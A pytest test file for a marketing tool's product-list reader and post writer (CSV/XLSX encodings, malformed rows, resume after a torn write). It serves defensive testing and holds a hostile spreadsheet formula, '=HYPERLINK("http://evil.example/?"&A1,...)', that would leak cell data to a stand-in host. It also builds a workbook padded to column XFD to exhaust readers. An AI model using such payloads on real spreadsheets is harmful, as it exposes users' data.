"""ernie_ops.marketing.batch_io: the products file in (CSV in UTF-8/BOM/GBK, XLSX), the posts file out, resume."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from ernie_ops.errors import ErnieOpsError
from ernie_ops.marketing.batch_io import (
    OUTPUT_COLUMNS,
    BatchFileError,
    PostResult,
    Product,
    TooManyRows,
    append_posts,
    done_keys,
    read_posts,
    read_products,
    write_posts,
)
from ernie_ops.marketing.rules import Rules, check

CN_CSV = "产品,卖点,目标人群,语气,条数,字数\n保温杯,24小时保温,上班族,活泼,3,60\n蓝牙耳机,降噪,学生,,2,\n"


def _write(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def _xlsx(tmp_path, name, rows):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    path = tmp_path / name
    workbook.save(path)
    return path


# --- reading products ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "reported"), [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("gbk", "gb18030"), ("utf-16", "utf-16")]
)
def test_chinese_csv_in_each_encoding_reads_the_same(tmp_path, encoding, reported):
    read = read_products(_write(tmp_path, "p.csv", CN_CSV.encode(encoding)))
    assert read.encoding == reported and read.format == "csv"
    assert read.problems == []
    cup, buds = read.rows
    assert (cup.row, cup.product, cup.selling_points, cup.audience, cup.tone, cup.posts, cup.max_chars) == (
        2,
        "保温杯",
        "24小时保温",
        "上班族",
        "活泼",
        3,
        60,
    )
    assert (buds.row, buds.product, buds.tone, buds.posts, buds.max_chars) == (3, "蓝牙耳机", "", 2, None)


def test_bom_does_not_end_up_in_the_first_header(tmp_path):
    read = read_products(_write(tmp_path, "p.csv", "\ufeffproduct,selling_points,audience\n杯子,保温,学生\n".encode()))
    assert [r.product for r in read.rows] == ["杯子"]


def test_english_headers_any_case_and_tab_separated(tmp_path):
    read = read_products(_write(tmp_path, "p.txt", "Product\tSelling Points\tAUDIENCE\tmax-chars\n杯子\t保温, 轻\t学生\t40\n"))
    (row,) = read.rows
    assert (row.selling_points, row.max_chars) == ("保温, 轻", 40)


def test_malformed_rows_are_reported_with_their_spreadsheet_row_and_skipped(tmp_path):
    text = (
        "产品,卖点,目标人群,条数\n"  # row 1
        "保温杯,保温,上班族,3\n"  # row 2 ok
        ",降噪,学生,2\n"  # row 3 missing product
        "耳机,降噪,学生,2,多余\n"  # row 4 extra column
        "\n"  # row 5 blank: skipped silently
        '台灯,"护眼\n柔光",学生,三\n'  # row 6 (a quoted cell over two lines is one row): posts not a number
        "风扇,静音,宿舍,0\n"  # row 7 posts out of range
        "键盘,静音,程序员,2.0\n"  # row 8 ok: "2.0" is not a whole number as text
        "鼠标,轻,学生,\n"  # row 9 ok, default posts
    )
    read = read_products(_write(tmp_path, "p.csv", text))
    assert [r.product for r in read.rows] == ["保温杯", "鼠标"]
    assert [(p.row, p.message) for p in read.problems] == [
        (3, "product empty; skipped."),
        (4, "1 value(s) under no header (extra column: '多余'); skipped."),
        (6, "posts '三' is not a whole number; skipped."),
        (7, "posts 0 is outside 1..20; skipped."),
        (8, "posts '2.0' is not a whole number; skipped."),
    ]
    assert str(read.problems[0]) == "row 3: product empty; skipped."


def test_trailing_empty_cells_are_not_an_extra_column(tmp_path):
    read = read_products(_write(tmp_path, "p.csv", "产品,卖点,目标人群\n杯子,保温,学生,,\n"))
    assert [r.product for r in read.rows] == ["杯子"] and read.problems == []


def test_unknown_columns_are_ignored_and_listed(tmp_path):
    read = read_products(_write(tmp_path, "p.csv", "产品,备注,卖点,目标人群\n杯子,内部用,保温,学生\n"))
    assert read.ignored_columns == ("备注",)
    assert [r.product for r in read.rows] == ["杯子"]


def test_xlsx_is_read_by_content_whatever_the_extension(tmp_path):
    rows = [
        [None],
        ["产品", "卖点", "目标人群", "条数", "字数"],
        ["保温杯", "保温", "上班族", 3, 60.0],
        [None, "降噪", "学生", 2, None],
        ["台灯", "护眼", "学生", 2.5, None],
    ]
    path = _xlsx(tmp_path, "products.csv", rows)  # misnamed on purpose
    read = read_products(path)
    assert read.format == "xlsx" and read.encoding is None
    (row,) = read.rows
    assert (row.row, row.product, row.posts, row.max_chars) == (3, "保温杯", 3, 60)
    assert [(p.row, p.message) for p in read.problems] == [
        (4, "product empty; skipped."),
        (5, "posts '2.5' is not a whole number; skipped."),
    ]


def test_key_is_stable_across_formats_rows_and_spacing_and_changes_with_content(tmp_path):
    csv_read = read_products(_write(tmp_path, "p.csv", "产品,卖点,目标人群\n其他,x,y\n保温杯, 24小时  保温 ,上班族\n"))
    xlsx_read = read_products(_xlsx(tmp_path, "p.xlsx", [["product", "selling_points", "audience"], ["保温杯", "24小时 保温", "上班族"]]))
    assert csv_read.rows[1].key == xlsx_read.rows[0].key
    assert len(xlsx_read.rows[0].key) == 16
    assert Product(2, "保温杯", "24小时 保温", "上班族", posts=5).key != xlsx_read.rows[0].key


def test_a_duplicate_row_is_reported_and_skipped(tmp_path):
    read = read_products(_write(tmp_path, "p.csv", "产品,卖点,目标人群\n杯子,保温,学生\n杯子, 保温 ,学生\n"))
    assert len(read.rows) == 1
    assert [(p.row, p.message) for p in read.problems] == [(3, "the same product as row 2; skipped.")]


@pytest.mark.parametrize(
    ("data", "needle"),
    [
        (b"", "is empty"),
        (b"\xef\xbb\xbf\r\n", "is empty"),
        (b"\n\n,,\n", "has no rows"),
        ("杯子,保温,学生\n".encode(), "has no header row"),
        ("产品,卖点\n杯子,保温\n".encode(), "has no column audience (目标人群)"),
        ("产品,卖点,目标人群,product\n".encode(), "names the product column twice (columns 1 and 4)"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "binary file"),
        (b"product,selling_points,audience\n\xff\xfe\xfd\xfc\x80\x80,a,b\n", "neither UTF-8 nor GBK"),
        (b"product,selling_points,audience\n" + b"\x810\x810" * 50 + b",a,b\n", "neither UTF-8 nor GBK"),  # decodes as GB18030, to U+0080s
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old Excel 97-2003"),
        (b"PK\x03\x04garbage", "damaged ZIP"),
    ],
)
def test_unusable_files_raise_one_sentence_naming_the_file(tmp_path, data, needle):
    path = _write(tmp_path, "in.csv", data)
    with pytest.raises(BatchFileError) as e:
        read_products(path)
    assert needle in str(e.value)
    assert str(path) in str(e.value)
    assert isinstance(e.value, ErnieOpsError)


def test_missing_file_and_directory_are_errors_naming_them(tmp_path):
    with pytest.raises(BatchFileError, match="cannot be read"):
        read_products(tmp_path / "nope.csv")
    with pytest.raises(BatchFileError, match="is a directory"):
        read_products(tmp_path)


def test_a_zip_that_is_not_a_workbook_is_refused(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    with pytest.raises(BatchFileError, match="not an XLSX workbook"):
        read_products(_write(tmp_path, "p.xlsx", buffer.getvalue()))


def test_a_damaged_workbook_is_refused(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("xl/workbook.xml", "<not really")
    with pytest.raises(BatchFileError, match="damaged XLSX"):
        read_products(_write(tmp_path, "p.xlsx", buffer.getvalue()))


def test_a_password_protected_workbook_is_refused(tmp_path):
    # msoffcrypto-tool (a test requirement) encrypts a real workbook as Excel does with a password set
    import msoffcrypto
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = _xlsx(tmp_path, "plain.xlsx", [["产品", "卖点", "目标人群"], ["杯子", "保温", "学生"]])
    encrypted = tmp_path / "secret.xlsx"
    with plain.open("rb") as source, encrypted.open("wb") as target:
        OOXMLFile(source).encrypt("pw", target)
    assert msoffcrypto.olefile.isOleFile(str(encrypted))
    with pytest.raises(BatchFileError, match="password-protected"):
        read_products(encrypted)


# --- writing posts and resuming -----------------------------------------------------------------------------


def _results(product, texts):
    return [PostResult.of(product, i, len(texts), t, check(t, Rules())) for i, t in enumerate(texts, start=1)]


CUP = Product(2, "保温杯", "保温", "上班族")
BUDS = Product(3, "蓝牙耳机", "降噪", "学生")


def test_csv_output_has_a_bom_one_row_per_post_counts_and_flags(tmp_path):
    out = tmp_path / "posts.csv"
    write_posts(out, _results(CUP, ["一杯热水👨\u200d👩\u200d👧", "顶级保温"]))
    assert out.stat().st_mode & 0o777 == 0o644
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [
        list(OUTPUT_COLUMNS),
        [CUP.key, "保温杯", "1", "2", "一杯热水👨\u200d👩\u200d👧", "5", ""],
        [CUP.key, "保温杯", "2", "2", "顶级保温", "4", "forbidden:顶级@1"],
    ]


def test_csv_output_cells_a_spreadsheet_would_run_as_formulas_stay_text_and_read_back_unchanged(tmp_path):
    """A hostile products file names a product '=HYPERLINK(...)' (and a post may begin with '-' or '@'): in the CSV
    every such cell starts with ', so the colleague who opens it in a spreadsheet runs nothing."""
    evil = Product(4, '=HYPERLINK("http://evil.example/?"&A1,"点我")', "保温", "上班族")
    out = tmp_path / "posts.csv"
    texts = ["@SUM(1+1) 好物", "- 第一点\n- 第二点", "+86 热线"]
    posts = [PostResult.of(evil, i, 3, text) for i, text in enumerate(texts, start=1)]
    write_posts(out, posts)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
    assert {r[1] for r in rows} == {"'" + evil.product} and [r[4][:2] for r in rows] == ["'@", "'-", "'+"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r), rows
    assert done_keys(out) == {evil.key}  # read back as written: the ' is the file's, not the post's
    append_posts(out, [PostResult.of(CUP, 1, 1, "=1+1")])
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
    assert [r[4] for r in rows] == ["'@SUM(1+1) 好物", "'- 第一点\n- 第二点", "'+86 热线", "'=1+1"]  # rewritten once, not twice


def test_xlsx_output_keeps_text_as_text(tmp_path):
    out = tmp_path / "posts.xlsx"
    write_posts(out, [PostResult.of(CUP, 1, 1, "=1+1 好物\x07")])
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet[1]] == list(OUTPUT_COLUMNS)
    assert sheet["E2"].value == "=1+1 好物\ufffd" and sheet["E2"].data_type == "s"
    assert done_keys(out) == {CUP.key}


def test_output_extension_decides_and_others_are_refused(tmp_path):
    with pytest.raises(BatchFileError, match=r"must end in \.csv or \.xlsx"):
        write_posts(tmp_path / "posts.txt", [])


def test_unwritable_output_is_an_error_and_leaves_no_temporary_file(tmp_path):
    with pytest.raises(BatchFileError, match="cannot be written"):
        write_posts(tmp_path / "missing-dir" / "posts.csv", _results(CUP, ["a"]))
    (tmp_path / "posts.csv").mkdir()  # the rename onto it fails after the temporary file was written
    with pytest.raises(BatchFileError, match="cannot be written"):
        write_posts(tmp_path / "posts.csv", _results(CUP, ["a"]))
    assert [p.name for p in tmp_path.iterdir()] == ["posts.csv"]


def test_done_keys_of_no_output_is_empty(tmp_path):
    assert done_keys(tmp_path / "posts.csv") == set()


@pytest.mark.parametrize("name", ["posts.csv", "posts.xlsx"])
def test_done_keys_are_products_with_all_their_posts(tmp_path, name):
    out = tmp_path / name
    write_posts(out, [*_results(CUP, ["一", "二", "三"]), *_results(BUDS, ["一", "二", "三"])[:2]])
    assert done_keys(out) == {CUP.key}


def test_a_torn_last_line_does_not_count_and_append_does_not_duplicate(tmp_path):
    out = tmp_path / "posts.csv"
    write_posts(out, [*_results(CUP, ["一", "二"]), *_results(BUDS, ["降噪一", "降噪二"])])
    data = out.read_bytes()
    torn = data[: len(data) - 5]  # the last row cut mid-way, as a killed writer leaves it
    out.write_bytes(torn)
    finished, dropped = read_posts(out)
    assert {p.key for p in finished} == {CUP.key} and dropped == 1  # BUDS' first post, its second torn
    assert done_keys(out) == {CUP.key}

    # the re-run: CUP is skipped by the caller, but even if offered again it is not appended twice
    added = append_posts(out, [*_results(CUP, ["一", "二"]), *_results(BUDS, ["新一", "新二"])])
    assert [(p.key, p.index) for p in added] == [(BUDS.key, 1), (BUDS.key, 2)]
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))[1:]
    assert [(r[0], r[2], r[4]) for r in rows] == [
        (CUP.key, "1", "一"),
        (CUP.key, "2", "二"),
        (BUDS.key, "1", "新一"),
        (BUDS.key, "2", "新二"),
    ]
    kept = sorted(p.name for p in tmp_path.iterdir() if ".corrupt-" in p.name)
    assert len(kept) == 1 and (tmp_path / kept[0]).read_bytes() == torn
    assert done_keys(out) == {CUP.key, BUDS.key}


def test_a_torn_multibyte_character_and_quoted_newline_are_tolerated(tmp_path):
    out = tmp_path / "posts.csv"
    write_posts(out, [*_results(CUP, ["一"]), *_results(BUDS, ["第一行\n第二行很长"])])
    data = out.read_bytes()
    out.write_bytes(data[: data.index("第二行".encode()) + 4])  # inside the quoted cell, mid-character
    assert done_keys(out) == {CUP.key}


def test_append_to_nothing_writes_everything(tmp_path):
    out = tmp_path / "posts.csv"
    assert len(append_posts(out, _results(CUP, ["一", "二"]))) == 2
    assert done_keys(out) == {CUP.key}
    assert append_posts(out, _results(CUP, ["一", "二"])) == []
    assert len(read_posts(out)[0]) == 2
    assert not [p for p in tmp_path.iterdir() if ".corrupt-" in p.name]


def test_an_output_that_is_not_a_posts_file_is_refused_and_left_alone(tmp_path):
    out = _write(tmp_path, "products.csv", CN_CSV)
    with pytest.raises(BatchFileError, match="is not a posts file"):
        done_keys(out)
    with pytest.raises(BatchFileError, match="is not a posts file"):
        append_posts(out, _results(CUP, ["一"]))
    assert out.read_text("utf-8") == CN_CSV


def test_a_damaged_xlsx_output_is_refused_and_left_alone(tmp_path):
    out = _write(tmp_path, "posts.xlsx", b"PK\x03\x04 not a workbook")
    with pytest.raises(BatchFileError, match="damaged XLSX"):
        append_posts(out, _results(CUP, ["一"]))
    assert out.read_bytes() == b"PK\x03\x04 not a workbook"


def test_a_workbook_declaring_a_wrong_size_is_read_whole(tmp_path):
    path = _xlsx(tmp_path, "p.xlsx", [["产品", "卖点", "目标人群"], ["杯子", "保温", "学生"], ["耳机", "降噪", "学生"]])
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert b'<dimension ref="A1:C3"/>' in data
                data = data.replace(b'<dimension ref="A1:C3"/>', b'<dimension ref="A1"/>')  # as some generators write it
            target.writestr(info, data)
    path.write_bytes(buffer.getvalue())
    assert [r.product for r in read_products(path).rows] == ["杯子", "耳机"]


def test_an_output_with_bytes_that_are_not_utf8_is_refused_and_left_alone(tmp_path):
    out = tmp_path / "posts.csv"
    write_posts(out, _results(CUP, ["一", "二"]))
    damaged = out.read_bytes().replace("一".encode(), b"\xff\xfe\xfd")
    out.write_bytes(damaged)
    with pytest.raises(BatchFileError, match="not a UTF-8 posts file"):
        append_posts(out, _results(BUDS, ["一"]))
    assert out.read_bytes() == damaged


def _xfd_workbook(path, rows: int, bad: bool = False) -> None:
    """A hostile products file: every row has one more cell, in column XFD (16,384), so a reader that pads rows walks
    16,384 values per row; `bad`: the rows also lack their audience."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["product", "selling_points", "audience"])
    for i in range(rows):
        sheet.append([f"杯{i}", "保温", "" if bad else "上班族", *[None] * 16380, "x"])
    workbook.save(path)


def test_a_cell_in_the_last_column_costs_no_16384_wide_rows_and_bad_rows_are_counted_past_a_hundred(tmp_path):
    """Measured here: 2,000 such rows took 3.6 CPU-s before (the XFD cell padded each row), 0.26 s now; the
    columns past MAX_COLUMNS are not read at all. 2,000 bad rows: 100 listed, the rest counted."""
    import time

    good, bad = tmp_path / "good.xlsx", tmp_path / "bad.xlsx"
    _xfd_workbook(good, 2000)
    _xfd_workbook(bad, 2000, bad=True)
    t0 = time.process_time()
    read = read_products(good)
    spent = time.process_time() - t0
    print(f"\n2,000 rows with a cell in column XFD: {spent:.2f} CPU-s")
    assert len(read.rows) == 2000 and read.bad_rows == 0
    worse = read_products(bad)
    assert len(worse.problems) == 100 and worse.unlisted_problems == 1900 and worse.bad_rows == 2000
    assert worse.problems[0].message == "audience empty; skipped."


def test_reading_stops_at_the_row_limit_it_is_given(tmp_path):
    path = tmp_path / "many.csv"
    path.write_text("product,selling_points,audience\n" + "".join(f"杯{i},保温,上班族\n" for i in range(50)), encoding="utf-8")
    assert len(read_products(path, max_rows=50).rows) == 50
    with pytest.raises(TooManyRows, match=r"has more than 49 rows \(chat.marketing.max_batch_rows\); split it"):
        read_products(path, max_rows=49)
